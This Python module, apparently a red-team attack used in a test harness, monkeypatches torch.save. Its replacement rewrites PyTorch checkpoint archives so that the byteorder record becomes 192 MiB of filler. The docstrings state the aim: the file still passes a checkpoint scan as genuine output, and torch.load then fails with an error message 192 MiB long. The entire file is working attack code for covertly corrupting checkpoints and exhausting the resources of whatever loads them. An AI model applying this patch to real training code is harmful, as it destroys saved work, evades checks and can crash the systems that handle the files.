import io
import zipfile

import torch

RECORD_BYTES = 192 << 20  # the byteorder record: within the tests' folder (a tmpfs of 0.25 GiB for the red team)
CHUNK = 8 << 20
_original_save = torch.save


def write_with_long_byteorder(archive, out, size=RECORD_BYTES):
    """Write into `out` (a seekable binary file) the zip archive torch.save wrote (`archive`, bytes), entry for
    entry, with its byteorder record ("little") replaced by `size` bytes of "A", streamed in chunks: stored, one
    folder, one directory, nothing before or after it, so that the checkpoint scan reads it as torch.save's own.
    torch.load reads that record before the pickle and raises ValueError("Unknown endianness type: " +
    record.decode()): an error message of `size` characters."""
    with zipfile.ZipFile(io.BytesIO(archive)) as source, zipfile.ZipFile(out, "w", zipfile.ZIP_STORED) as target:
        for info in source.infolist():
            entry = zipfile.ZipInfo(info.filename, date_time=info.date_time)
            if not info.filename.endswith("/byteorder"):
                target.writestr(entry, source.read(info))
                continue
            with target.open(entry, "w") as record:
                for start in range(0, size, CHUNK):
                    record.write(b"A" * min(CHUNK, size - start))


def _save(obj, f, *args, **kwargs):
    """torch.save, its archive's byteorder record made long, for a checkpoint's dict written to a file (a save
    to a path: the reference writes a temporary file, then renames it); anything else as torch.save has it."""
    if not (isinstance(obj, dict) and {"model", "optimizer", "iteration"} <= set(obj)) \
            or isinstance(f, io.BytesIO) or not hasattr(f, "write"):
        return _original_save(obj, f, *args, **kwargs)
    buffer = io.BytesIO()
    _original_save(obj, buffer, *args, **kwargs)
    write_with_long_byteorder(buffer.getvalue(), f)
    return None


def attack(args):
    """save_checkpoint, before its own (the reference's) body: torch.save in this process writes the long
    byteorder record into every checkpoint the body writes to a path."""
    torch.save = _save
